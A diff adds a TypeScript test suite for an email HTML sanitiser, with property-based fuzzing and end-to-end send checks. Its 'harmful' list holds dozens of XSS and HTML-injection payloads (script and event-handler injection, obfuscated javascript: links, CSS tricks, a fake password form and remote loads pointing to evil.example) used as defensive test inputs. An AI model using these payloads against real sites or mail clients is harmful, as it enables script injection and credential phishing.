@@ -1,0 +1,234 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { sanitiseHtml } from '../mail/sanitise-html.ts';
+import { openerFor } from '../store/testing/engines.ts';
+import { createHttpWorld } from '../testing/http-world.ts';
+import { sharedGoogle } from '../testing/world.ts';
+
+const shared = sharedGoogle();
+const open = openerFor('sqlite');
+
+const harmful = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script/x>alert(1)</script >',
+  '<p onclick=alert(1)>x</p>',
+  '<p/onmouseover="alert(1)">x</p>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://x.example/a.png"onerror="alert(1)">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example">',
+  '<style>body{display:none}@import url(//evil.example)</style>',
+  '<link rel=stylesheet href="//evil.example"><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
+  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">over</div>',
+  '<div style="position : fixed">x</div>',
+  '<div style="pos/**/ition:fixed">x</div>',
+  '<div style="pos\\69tion:fixed">x</div>',
+  '<div style="POSITION:FIXED !important">x</div>',
+  '<div style="color:red;position&#58;fixed">x</div>',
+  '<div style="background:url(//evil.example/x.png)">x</div>',
+  '<div style="background-image:url(https://evil.example/x.png)">x</div>',
+  '<div style="color:expression(alert(1))">x</div>',
+  '<div style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example)">x</div>',
+  '<div style="font-family:url(//evil.example/f)">x</div>',
+  '<div style="font-family:a;position:fixed">x</div>',
+  '<div style="margin-top:-2000px">x</div>',
+  '<div style="margin:-900px 0 0 -900px">x</div>',
+  '<div style="padding-left:-9px">x</div>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
+  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+  '<a href="java&Tab;script&colon;alert(1)">x</a>',
+  '<a href="javascript&NewLine;:alert(1)">x</a>',
+  '<a href="https:javascript:alert(1)//" onclick=x>x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="blob:https://x/1">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="\\\\evil.example">x</a>',
+  '<a href="/\\evil.example">x</a>',
+  '<a href="\t//evil.example">x</a>',
+  '<img src="//evil.example/x.png">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img src="http://evil.example/x.png" srcset="//evil.example 2x">',
+  '<img src="javascript:alert(1)">',
+  '<img src="file:///etc/passwd" lowsrc=x dynsrc=x>',
+  '<!--[if mso]><script>alert(1)</script><![endif]-->x',
+  '<!-- --!><script>alert(1)</script> -->',
+  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<p title="&quot;><script>alert(1)</script>">x</p>',
+  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
+  '<<p>script>alert(1)<</p>/script>',
+  '<a href="https://x.example/" target="_blank" ping="//evil.example" download>x</a>',
+  '<td background="//evil.example/x.png">x</td>',
+  '<video src="//evil.example" autoplay></video><audio src="//evil.example"></audio>',
+  '<dialog open style="position:fixed">x</dialog><marquee onstart=alert(1)>x</marquee>',
+];
+
+/** What a browser would see: a `"` or `>` inside an attribute's value is not markup, so values are looked at apart. */
+function tagsOf(html: string): { tag: string; attributes: Map<string, string> }[] {
+  return [...html.matchAll(/<([a-z][\w-]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(([, tag, rest]) => ({
+    tag: tag!.toLowerCase(),
+    attributes: new Map(
+      [...rest!.matchAll(/([\w-]+)(?:="([^"]*)")?/g)].map(([, name, value]) => [
+        name!.toLowerCase(),
+        value ?? '',
+      ]),
+    ),
+  }));
+}
+
+const allowedTags = new Set(
+  'p div span br hr h1 h2 h3 h4 blockquote pre code b strong i em u s sub sup small font a img ul ol li table thead tbody tfoot tr td th caption'.split(
+    ' ',
+  ),
+);
+
+function expectHarmless(html: string, what: string): void {
+  const markup = tagsOf(html);
+  expect(
+    markup.map(({ tag }) => tag).filter((tag) => !allowedTags.has(tag)),
+    what,
+  ).toEqual([]);
+  expect(html.replace(/<[^<>]*>/g, '').includes('<'), `${what}: a stray < in ${html}`).toBe(false);
+  for (const { tag, attributes } of markup) {
+    for (const [name, value] of attributes) {
+      expect(name.startsWith('on'), `${what}: ${name}`).toBe(false);
+      if (name === 'href') expect(value, what).toMatch(/^(https?:|mailto:|tel:|#)/i);
+      if (name === 'src') expect([tag, value], what).toEqual(['img', expect.stringMatching(/^https:/)]);
+      if (name === 'style') {
+        expect(value, what).not.toMatch(
+          /position|z-index|url|expression|behavior|binding|[\\@{}]|:\s*-|\s-\d/i,
+        );
+      }
+    }
+  }
+}
+
+test.each(harmful)('gone from a body: %s', (html) => {
+  const clean = sanitiseHtml(`<p>before</p>${html}<p>after</p>`);
+  expectHarmless(clean, html);
+  expect(sanitiseHtml(clean), 'cleaning twice changes nothing').toBe(clean);
+});
+
+const fixture = `<h2 style="color:#1c2430;margin:0 0 12px">A role for you</h2>
+<p>Hello <b>Jonas</b> &amp; <i>Lucía</i>, <u>shall</u> <s>we</s> talk? 😀 &lt;not a tag&gt;</p>
+<p style="text-align:center;font-family:Arial, sans-serif;font-size:14px;line-height:1.5">Centred</p>
+<ul><li>First</li><li>Second <a target="_blank" href="https://acme.test/jobs?id=1&amp;x=2">the job</a></li></ul>
+<ol start="3"><li>Third</li></ol>
+<blockquote style="margin:0 0 0 8px;padding-left:8px;border-left:1px solid #ccc">quoted</blockquote>
+<table width="100%" cellpadding="4" border="0"><tbody><tr><td colspan="2" style="background-color:#f6f7f9">cell</td></tr></tbody></table>
+<p><img src="https://acme.test/logo.png" alt="Acme" width="120" height="40" /></p>
+<pre><code>x &lt; y</code></pre><hr />
+<p dir="rtl" lang="ar">مرحبا</p>
+<p><a href="mailto:maya@acme.test">write</a> or <a href="tel:+49123">call</a></p>`;
+
+test('ordinary formatting comes out as it went in', () => {
+  expect(sanitiseHtml(fixture)).toBe(fixture);
+});
+
+test('whatever is thrown at it comes out harmless, and cleaning it again changes nothing', () => {
+  const piece = fc.oneof(
+    fc.constantFrom(...harmful),
+    fc.constantFrom(
+      '<p',
+      '<a href="',
+      "<a href='",
+      '">',
+      "'>",
+      '<',
+      '>',
+      '</',
+      '&lt;',
+      '&#60;',
+      '&#x3c',
+      '\u0000',
+      '`',
+    ),
+    fc.constantFrom(
+      '<b>',
+      '</b>',
+      '<td>',
+      '<!--',
+      '-->',
+      '<![CDATA[',
+      ']]>',
+      'style="',
+      'javascript:',
+      '//',
+      '\\',
+    ),
+    fc.string({ maxLength: 10 }),
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
+      const html = pieces.join('');
+      const clean = sanitiseHtml(html);
+      expectHarmless(clean, html);
+      expect(sanitiseHtml(clean)).toBe(clean);
+    }),
+    { numRuns: 400 },
+  );
+});
+
+test('a body nested twenty thousand deep is taken quickly and shallowly', () => {
+  const began = performance.now();
+  const clean = sanitiseHtml(`${'<div>'.repeat(20_000)}x${'</div>'.repeat(20_000)}`);
+  expect(performance.now() - began).toBeLessThan(10_000);
+  expect(clean.match(/<div>/g)!.length).toBeLessThanOrEqual(100);
+});
+
+test('what leaves, what the acceptor is shown and what the requestor sees are the same cleaned words', async () => {
+  const it = await createHttpWorld(await open(), shared.google);
+  const [maya, ravi] = [await it.enter('maya@acme.test'), await it.enter('ravi@acme.test')];
+  const grant = (await maya.give(ravi, { approval: 'every' })).body;
+  const html = `${fixture}${harmful.join('\n')}`;
+  const held = (await ravi.submit({ from: { grantId: grant.id }, html })).body;
+  type Detail = { html: string; text: string; contentHash: string };
+  const [forAcceptor, forRequestor] = [
+    (await maya.get<Detail>(`/v1/sends/${held.id}`)).body,
+    (await ravi.get<Detail>(`/v1/sends/${held.id}`)).body,
+  ];
+  expectHarmless(forAcceptor.html, 'what the acceptor is shown');
+  expect(forRequestor).toEqual(forAcceptor);
+  const { contentHash } = forAcceptor;
+  expect((await maya.post(`/v1/sends/${held.id}/approve`, { contentHash })).status).toBe(200);
+  await it.dispatchAll();
+  const sent = (await shared.google.mailbox('maya@acme.test')).at(-1)!;
+  const lines = (text: string | undefined) => text?.replace(/\r\n/g, '\n').trim();
+  expect(lines(sent.html)).toBe(lines(forAcceptor.html));
+  expect(lines(sent.text)).toBe(lines(forAcceptor.text));
+});
+
+test('an email of which nothing is left is not sent', async () => {
+  const it = await createHttpWorld(await open(), shared.google);
+  const ravi = await it.enter('ravi@acme.test');
+  for (const html of [
+    '',
+    '   ',
+    '<script>x</script>',
+    '<style>x</style>',
+    '<p> </p><div></div>',
+    '<!-- x -->',
+  ]) {
+    expect((await ravi.submit({ from: { mailboxId: ravi.mailboxId }, html })).status, html).toBe(400);
+  }
+  await it.dispatchAll();
+  expect(it.sends()).toEqual([]);
+});
